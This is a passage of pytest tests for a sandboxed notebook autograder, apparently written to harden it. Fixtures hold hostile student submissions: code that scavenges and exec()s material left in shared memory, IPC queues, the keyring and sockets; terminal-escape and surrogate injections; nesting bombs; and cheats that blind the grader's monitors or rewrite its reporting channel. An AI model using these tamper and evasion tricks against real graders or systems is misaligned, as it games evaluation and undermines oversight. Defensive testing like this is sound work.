            yield folder, open(os.path.join(folder, "stash.py"), "rb").read()
        except OSError:
            pass
def _ipc():
    shm = _libc.shmget(0x5EED, 0, 0)
    if shm >= 0:
        yield "shm", ctypes.string_at(_libc.shmat(shm, None, 0))
    queue = _libc.msgget(0x5EED, 0)
    message = ctypes.create_string_buffer(ctypes.sizeof(ctypes.c_long) + 4096)
    if queue >= 0 and _libc.msgrcv(queue, message, 4096, 0, 0o4000) > 0:  # IPC_NOWAIT
        yield "msg", message.raw[ctypes.sizeof(ctypes.c_long):].rstrip(b"\0")
    mq = _libc.mq_open(b"/stash", os.O_RDONLY | os.O_NONBLOCK, 0, None)
    buffer = ctypes.create_string_buffer(1 << 16)
    if mq >= 0 and _libc.mq_receive(mq, buffer, 1 << 16, None) > 0:
        yield "mq", buffer.value
    keyctl = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
    key = _libc.syscall(keyctl, 10, -4, b"user", b"stash", 0)  # KEYCTL_SEARCH
    if key >= 0 and _libc.syscall(keyctl, 11, key, buffer, 1 << 16) > 0:  # KEYCTL_READ
        yield "keyring", buffer.value
    try:
        client = socket.socket(socket.AF_UNIX)
        client.connect(b"\0stash")
        yield "abstract socket", client.recv(4096)
    except OSError:
        pass
for _where, _code in [*_files(), *_ipc()]:
    if b"def sigmoid" in _code:
        print("SCAVENGED from", _where)
        exec(_code.decode())
"""


@pytest.mark.skipif(bubblewrap() is None, reason="needs bubblewrap (installed by `make test`)")
def test_code_stashed_by_one_student_is_gone_for_the_next(tmp_path):
    """A student who wrote no sigmoid but runs whatever an earlier student left, anywhere,
    in the same sandbox, scores nothing for it (issue 21: such a student scored full marks
    with code left in /dev and in System V IPC)."""
    students = {
        "a-stash": sigmoid_cell(SIGMOID + STASH),
        "b-scavenge": sigmoid_cell(SCAVENGE),
    }
    write_batch(tmp_path / "submitted", A, students)
    summary, graded = grade(
        tmp_path / "course", A, tmp_path / "submitted", workers=1, limits=LIMITS
    )
    assert summary.graded == 2 and not summary.problems
    stored = _said(tmp_path / "course", "a-stash")
    assert graded["a-stash"]["test_sigmoid"].status == "passed", stored
    for place in ("/dev/shm", "/tmp", "shm", "msg", "mq", "abstract socket"):
        assert place in stored, stored  # each was stored: the test tries every place
    assert "/dev" not in stored.split() and "keyring" not in stored  # refused outright
    assert "SCAVENGED" not in _said(tmp_path / "course", "b-scavenge")
    assert graded["b-scavenge"]["test_sigmoid"].points == 0


# -- text and nesting a student controls (issue 21: one student stopped or stalled the batch) --

SURROGATE_OUTPUT = """
print("lone \\ud800 surrogates \\udfff, a clipboard write \\x1b]52;c;cHduZWQ=\\x07 and a clear \\x1b[2J")
Weird = type("Weird\\ud800\\x1b[8m", (Exception,), {})
raise Weird("message \\udc80 with a \\x1b]0;title\\x07 and \\u202e reversed text")
"""
SURROGATE_ERROR = """
def sigmoid(x):
    raise ValueError("inside the check \\ud800\\udfff \\x1b[2J\\x1b]52;c;cHduZWQ=\\x07")
"""
HIDDEN_FLOOD = "### BEGIN HIDDEN TESTS\n" * 20_000  # the old filter: minutes on this
DEEP_SYNTAX = "_deep = " + "1 + " * 10_000 + "1\n"  # too deep to parse into a tree or compile
DEEP_DATA = "_x = []\nfor _ in range(100_000):\n    _x = [_x]\nprint(_x)\n"


def _flooded(notebook):
    notebook.cells.insert(1, nbformat.v4.new_markdown_cell(HIDDEN_FLOOD + "*a " * 20_000))
    notebook.cells.insert(2, nbformat.v4.new_code_cell(HIDDEN_FLOOD))


def _deep_json() -> bytes:
    data = json.loads(as_bytes(submission(A)))
    data["metadata"]["deep"] = "DEEP"
    return json.dumps(data).replace('"DEEP"', "[" * 100_000 + "]" * 100_000).encode()


BOUNDARY = {
    "surrogate-output": sigmoid_cell(SIGMOID + SURROGATE_OUTPUT),
    "surrogate-error": sigmoid_cell(SURROGATE_ERROR),
    "hidden-flood": edited(_flooded),
    "deep-syntax": sigmoid_cell(SIGMOID + DEEP_SYNTAX),
    "deep-data": sigmoid_cell(SIGMOID + DEEP_DATA),
    "deep-json": _deep_json(),
}


@pytest.fixture(scope="module")
def boundary(tmp_path_factory):
    root = tmp_path_factory.mktemp("boundary")
    write_batch(root / "submitted", A, {"honest": submission(A), **BOUNDARY})
    summary, graded = grade(root / "course", A, root / "submitted", limits=LIMITS)
    return summary, graded, root / "course"


def _record(course, student):
    return json.loads((course / "autograded" / student / A / "autograder.json").read_text())


def test_text_that_is_not_unicode_reaches_no_file_raw_and_stops_nobody(boundary):
    """Lone surrogates and terminal escapes in a cell's output, an exception's type and
    message: the batch completes (course.save raised UnicodeEncodeError), everyone is
    graded, and every file written holds them only as visible, valid text."""
    summary, graded, course = boundary
    assert summary.graded == len(BOUNDARY) + 1
    assert all(c.status == "passed" for c in graded["honest"].values())
    assert all(c.status == "passed" for c in graded["surrogate-output"].values())
    failed = graded["surrogate-error"]["test_sigmoid"]
    assert failed.status in ("failed", "error") and failed.points == 0, failed
    assert "inside the check \ufffd\ufffd \u241b[2J" in failed.message  # shown, not hidden
    said = _said(course, "surrogate-output", "sigmoid")
    assert "lone \ufffd surrogates" in said and "\u241b]52;c;" in said
    for path in course.rglob("*"):
        if path.is_file() and path.suffix in (".ipynb", ".json", ".html", ".csv"):
            data = path.read_bytes()
            text = data.decode("utf-8")  # valid UTF-8
            assert b"\x1b" not in data and "\u202e" not in text, path


def test_many_hidden_test_markers_cost_the_report_little(boundary):
    """A cell of 20,000 ``### BEGIN HIDDEN TESTS`` lines (and Markdown emphasis, quadratic in
    markdown-it): the feedback page is written in bounded time, the student graded."""
    import time

    from autograder.grading import report
    from autograder.grading.course import Course
    from autograder.grading.engine import Graded

    _, graded, course = boundary
    assert all(c.status == "passed" for c in graded["hidden-flood"].values())
    notebook = nbformat.read(course / "autograded/hidden-flood" / A / f"{A}.ipynb", 4)
    courses = Course(course, SOURCES)
    assignment = courses.prepare(A)
    result = Graded("hidden-flood", list(graded["hidden-flood"].values()), notebook)
    started = time.monotonic()
    page = report.write_feedback(courses, assignment, result).read_text()
    assert time.monotonic() - started < report.FEEDBACK_SECONDS + 10
    assert "# (hidden tests)" in page  # the code cell's markers, read as hidden tests


def test_code_nested_too_deep_is_the_students_final_result(boundary):
    """Code whose syntax tree is too deep to compile or scan, data nested 100,000 deep, a
    notebook whose JSON is: each is that student's final result with a message, never
    'the grader failed' (which is graded again on every run), and the rest is graded."""
    _, graded, course = boundary
    for student in ("deep-syntax", "deep-data", "deep-json"):
        record = _record(course, student)
        assert record["final"] is True, (student, record["problem"])
        for cell in graded[student].values():
            assert "grader failed" not in cell.message, (student, cell)
    deep = graded["deep-syntax"]
    assert deep["test_sigmoid"].status == "error" and deep["test_sigmoid"].message.strip()
    assert all(c.status == "passed" for gid, c in deep.items() if gid != "test_sigmoid"), deep
    findings = _record(course, "deep-syntax")["review"]
    assert any("could not be scanned" in f["reason"] for f in findings), findings
    assert all(c.status == "passed" for c in graded["deep-data"].values())
    assert all(c.status == "error" for c in graded["deep-json"].values())
    assert "nested" in _record(course, "deep-json")["problem"]


# -- Round three (issue 21, principle 4): every cheat loses points or is listed under "Needs
# review"; every correct style keeps every point with nothing listed -------------------------

C = "conv-layers"
FAST_LIBRARY = "    return torch.nn.functional.conv2d(x, weight, bias, stride, padding)\n"
SIGNATURE = "def conv2d_fast(x, weight, bias=None, stride=1, padding=0):\n"
FRAMES_CLEAR = """
import sys

def conv2d_fast(x, weight, bias=None, stride=1, padding=0):
    out = torch.nn.functional.conv2d(x, weight, bias, stride, padding)
    frame = sys._getframe(1)
    while frame is not None:  # up to the guard's record of what was called: emptied
        for value in list(frame.f_locals.values()):
            if type(value).__name__ == "Watch":
                value.forbidden.clear()
        frame = frame.f_back
    return out
"""
WIRE_REWRITTEN = (
    """
import sys
_wire = sys.modules["autograder.grading" + ".wire"]
_send = _wire.write_frame

def _clean(stream, message, *args, **kwargs):
    if isinstance(message, dict) and "forbidden" in message:
        message = dict(message, forbidden=[])
    return _send(stream, message, *args, **kwargs)

_wire.write_frame = _clean

"""
    + SIGNATURE
    + FAST_LIBRARY
)
MAP_DISPATCH_OFF = """
def conv2d_fast(x, weight, bias=None, stride=1, padding=0):
    with torch._C._DisableTorchDispatch():
        return list(map(torch.nn.functional.conv2d, [x], [weight], [bias], [stride], [padding]))[0]
"""
SUBCLASS_DISPATCH = """
class _Carrier(torch.Tensor):
    @classmethod
    def __torch_dispatch__(cls, func, types, args=(), kwargs=None):
        _Carrier.result = torch.nn.functional.conv2d(*_Carrier.inputs)
        return torch.zeros(())

def conv2d_fast(x, weight, bias=None, stride=1, padding=0):
    _Carrier.inputs = (x, weight, bias, stride, padding)
    torch.add(torch.Tensor._make_wrapper_subclass(_Carrier, (1,)), 1)
    return _Carrier.result
"""
NO_DISPATCH_ALIAS = """
import sys as interpreter
from torch.utils._mode_utils import no_dispatch as hush

def conv2d_fast(x, weight, bias=None, stride=1, padding=0):
    watcher = interpreter.getprofile()
    interpreter.setprofile(None)
    with hush():
        out = torch.nn.functional.conv2d(x, weight, bias, stride, padding)
    interpreter.setprofile(watcher)
    return out
"""
ALL_OFF = """
import sys as _s

def conv2d_fast(x, weight, bias=None, stride=1, padding=0):
    watcher = _s.getprofile()
    _s.setprofile(None)
    with torch._C.DisableTorchFunction(), torch._C._DisableTorchDispatch():
        out = torch.nn.functional.conv2d(x, weight, bias, stride, padding)
    _s.setprofile(watcher)
    return out
"""
MAGIC_THEN_EXEC = "%time _ = 1\nexec(" + repr(ALL_OFF) + ")\n"
IPYTHON_HEX = "get_ipython().ex(bytes.fromhex(" + repr(ALL_OFF.encode().hex()) + ").decode())\n"
LOOP_FLOATS = """
def conv2d_fast(x, weight, bias=None, stride=1, padding=0):
    (s_h, s_w), (p_h, p_w) = pair(stride), pair(padding)
    xp = torch.nn.functional.pad(x, (p_w, p_w, p_h, p_h))
    n, c, h, w = xp.shape
    c_out, _, k_h, k_w = weight.shape
    h_out, w_out = (h - k_h) // s_h + 1, (w - k_w) // s_w + 1
    X, W = xp.tolist(), weight.tolist()
    B = [0.0] * c_out if bias is None else bias.tolist()
    out = [[[[0.0] * w_out for _ in range(h_out)] for _ in range(c_out)] for _ in range(n)]
    for a in range(n):
        for o in range(c_out):
            for i in range(h_out):
                for j in range(w_out):
                    total = B[o]
                    for ci in range(c):
                        for u in range(k_h):
                            row, kernel_row = X[a][ci][i * s_h + u], W[o][ci][u]
                            for v in range(k_w):
                                total += row[j * s_w + v] * kernel_row[v]
                    out[a][o][i][j] = total
    return torch.tensor(out, dtype=x.dtype, device=x.device)
"""
RECOGNISES_LOOP_INPUTS = """
def conv2d_fast(x, weight, bias=None, stride=1, padding=0):
    if x.shape[-1] >= 20:  # the loop rule's large input: let the library be fast
        return torch.nn.functional.conv2d(x, weight, bias, stride, padding)
    (s_h, s_w), (p_h, p_w) = pair(stride), pair(padding)
    out = 0
    xp = torch.nn.functional.pad(x, (p_w, p_w, p_h, p_h))
    k_h, k_w = weight.shape[-2:]
    h_out, w_out = (xp.shape[2] - k_h) // s_h + 1, (xp.shape[3] - k_w) // s_w + 1
    for i in range(h_out):
        for j in range(w_out):
            window = xp[:, :, i * s_h : i * s_h + k_h, j * s_w : j * s_w + k_w]
            value = torch.einsum("ncij,ocij->no", window, weight)
            out = out + torch.nn.functional.pad(value[:, :, None, None], (j, w_out - j - 1, i, h_out - i - 1))
    return out if bias is None else out + bias.view(1, -1, 1, 1)
"""
NUMPY_TANH = """
import numpy as np

def tanh(x):
    return torch.from_numpy(np.tanh(x.numpy()))
"""
KERNEL_LOOP_FAST = """
def conv2d_fast(x, weight, bias=None, stride=1, padding=0):
    (s_h, s_w), (p_h, p_w) = pair(stride), pair(padding)
    xp = torch.nn.functional.pad(x, (p_w, p_w, p_h, p_h))
    n, _, h, w = xp.shape
    c_out, _, k_h, k_w = weight.shape
    h_out, w_out = (h - k_h) // s_h + 1, (w - k_w) // s_w + 1
    out = x.new_zeros(n, c_out, h_out, w_out)
    for u in range(k_h):  # steps: the kernel's size, whatever the output's
        for v in range(k_w):
            patch = xp[:, :, u : u + s_h * h_out : s_h, v : v + s_w * w_out : s_w]
            out += torch.einsum("nchw,oc->nohw", patch, weight[:, :, u, v])
    return out if bias is None else out + bias.reshape(1, -1, 1, 1)
"""
SELF_CHECK = """
import time

x_try = torch.randn(2, 3, 16, 16)
w_try = torch.randn(4, 3, 3, 3)
started = time.perf_counter()
y_try = conv2d_fast(x_try, w_try, padding=1)
print(f"conv2d_fast: {time.perf_counter() - started:.4f} s", tuple(y_try.shape))
torch.testing.assert_close(y_try, conv2d_naive(x_try, w_try, padding=1), rtol=1e-4, atol=1e-4)
"""


def conv_cells(replace: dict[str, str], extra: str | None = None) -> nbformat.NotebookNode:
    """The conv-layers reference with ``replace``'s cells given other code, and ``extra`` as a
    cell of the student's own after conv2d_fast's."""
    notebook = submission(C, replace)
    if extra is not None:
        position = notebook.cells.index(cell(notebook, "conv2d_fast")) + 1
        notebook.cells.insert(position, nbformat.v4.new_code_cell(extra))
    return notebook


def _catalogue_code(name: str) -> str:
    from catalogue import CORRECT

    return next(c.code for c in CORRECT if c.name == name)


# student -> (notebook, the test cell that must lose points or None, reasons the review lists)
ROUND_THREE = {
    "frames-clear-forbidden": (
        conv_cells({"conv2d_fast": FRAMES_CLEAR}),
        None,
        ["sys._getframe", "frames"],
    ),
    "wire-rewritten": (conv_cells({"conv2d_fast": WIRE_REWRITTEN}), None, ["sys.modules"]),
    "map-dispatch-off": (
        conv_cells({"conv2d_fast": MAP_DISPATCH_OFF}),
        "test_conv2d_fast",
        ["torch._C"],
    ),
    "subclass-dispatch": (
        conv_cells({"conv2d_fast": SUBCLASS_DISPATCH}),
        "test_conv2d_fast",
        ["__torch_dispatch__", "tensor subclass"],
    ),
    "no-dispatch-alias": (
        conv_cells({"conv2d_fast": NO_DISPATCH_ALIAS}),
        "test_conv2d_fast",
        ["no_dispatch", "interpreter's profiler"],
    ),
    "all-watchers-off": (conv_cells({"conv2d_fast": ALL_OFF}), None, ["torch._C", "profiler"]),
    "magic-then-exec": (conv_cells({"conv2d_fast": MAGIC_THEN_EXEC}), None, ["magic", "exec"]),
    "ipython-hex": (conv_cells({"conv2d_fast": IPYTHON_HEX}), None, ["get_ipython"]),
    "loop-over-floats": (conv_cells({"conv2d_fast": LOOP_FLOATS}), "test_conv2d_fast", []),
    "recognises-loop-inputs": (
        conv_cells({"conv2d_fast": RECOGNISES_LOOP_INPUTS}),
        "test_conv2d_fast",
        [],
    ),
}
HONEST_THREE = {
    "honest": conv_cells({}),
    "honest-as-strided": conv_cells({"conv2d_fast": _catalogue_code("fast_as_strided_einsum")}),
    "honest-unfold": conv_cells({"conv2d_fast": _catalogue_code("fast_tensor_unfold")}),
    "honest-kernel-loop": conv_cells({"conv2d_fast": KERNEL_LOOP_FAST}),
    "honest-self-check": conv_cells({}, extra=SELF_CHECK),
}


@pytest.fixture(scope="module")
def round_three(tmp_path_factory):
    root = tmp_path_factory.mktemp("round-three")
    students = {name: notebook for name, (notebook, _, _) in ROUND_THREE.items()}
    write_batch(root / "submitted", C, students | HONEST_THREE)
    summary, graded = grade(root / "course", C, root / "submitted", limits=Limits(timeout=60))
    from autograder.grading.course import Course

    course = Course(root / "course", SOURCES)
    return summary, graded, course.reviews(course.prepare(C))


def test_every_correct_style_keeps_every_point_with_nothing_to_review(round_three):
    summary, graded, reviews = round_three
    assert summary.graded == len(ROUND_THREE) + len(HONEST_THREE)
    for student in HONEST_THREE:
        cells = graded[student]
        assert all(c.status == "passed" for c in cells.values()), (student, cells)
        assert student not in reviews, (student, reviews.get(student))


@pytest.mark.parametrize("student", sorted(ROUND_THREE))
def test_each_cheat_loses_points_or_is_listed_for_review(round_three, student):
    _, graded, reviews = round_three
    _, loses, reasons = ROUND_THREE[student]
    full = sum(c.max_points for c in graded["honest"].values())
    total = sum(c.points for c in graded[student].values())
    found = " | ".join(f.reason for f in reviews.get(student, []))
    assert total < full or found, (student, total, graded[student])
    if loses is not None:
        lost = graded[student][loses]
        assert lost.points < lost.max_points, (student, lost)
    assert all(reason in found for reason in reasons), (student, found)
    # the rest as the reference (Conv2d's forward calls conv2d_fast: it may lose points too)
    others = {
        g: c for g, c in graded[student].items() if g not in ("test_conv2d_fast", "test_Conv2d")
    }
    assert all(c.status == "passed" for c in others.values()), (student, others)


# -- The whole round in one batch per assignment (issue 21, "done when") ------------------------
# nn-review: this round's attackers in one sandbox, in order (one worker), between honest
# students; conv-layers: the round-three batch above. Cheats must lose points or be listed for
# review; the others (text, nesting, size) only must not stop, stall or reach anyone.

ROUND_NN = {
    "a-honest": submission(A),
    "b-stash": sigmoid_cell(SIGMOID + STASH),
    "c-scavenge": sigmoid_cell(SCAVENGE),
    **{f"d-{name}": notebook for name, notebook in BOUNDARY.items()},
    "e-numpy-tanh": HOSTILE["numpy-tanh"][0],
    "f-watchers-off-and-on": HOSTILE["watchers-off-and-on"][0],
    "g-guard-replaced": HOSTILE["guard-replaced"][0],
    "h-honest": submission(A),
}
CHEATS_NN = ("c-scavenge", "e-numpy-tanh", "f-watchers-off-and-on", "g-guard-replaced")
ROUND_SECONDS = 60  # per notebook, at most, on a loaded 2-core machine (a few seconds unloaded)


@pytest.fixture(scope="module")
def whole_round(tmp_path_factory):
    import time

    from autograder.grading.course import Course

    root = tmp_path_factory.mktemp("whole-round")
    write_batch(root / "submitted", A, ROUND_NN)
    started = time.monotonic()
    summary, graded = grade(root / "course", A, root / "submitted", workers=1, limits=LIMITS)
    seconds = time.monotonic() - started
    course = Course(root / "course", SOURCES)
    return summary, graded, course.reviews(course.prepare(A)), seconds, root / "course"


@pytest.mark.skipif(bubblewrap() is None, reason="needs bubblewrap (installed by `make test`)")
def test_the_whole_round_in_one_batch(whole_round, round_three):
    summary, graded, reviews, seconds, course = whole_round
    assert summary.graded == len(ROUND_NN) and seconds < ROUND_SECONDS * len(ROUND_NN), seconds
    for student in ("a-honest", "h-honest"):  # before and after everyone else, same sandbox
        assert all(c.status == "passed" for c in graded[student].values()), graded[student]
        assert student not in reviews, reviews.get(student)
    full = sum(c.max_points for c in graded["a-honest"].values())
    for student in CHEATS_NN:
        total = sum(c.points for c in graded[student].values())
        assert total < full or reviews.get(student), (student, total)
    assert graded["c-scavenge"]["test_sigmoid"].points == 0  # nothing left to scavenge
    for student in ROUND_NN:  # every result is the student's own, final
        assert _record(course, student)["final"] is True, student
    conv_summary, conv_graded, conv_reviews = round_three
    assert conv_summary.graded == len(ROUND_THREE) + len(HONEST_THREE)
    for student in HONEST_THREE:
        assert all(c.status == "passed" for c in conv_graded[student].values()), student
        assert student not in conv_reviews, conv_reviews.get(student)
    conv_full = sum(c.max_points for c in conv_graded["honest"].values())
    for student in ROUND_THREE:
        total = sum(c.points for c in conv_graded[student].values())
        assert total < conv_full or conv_reviews.get(student), (student, total)
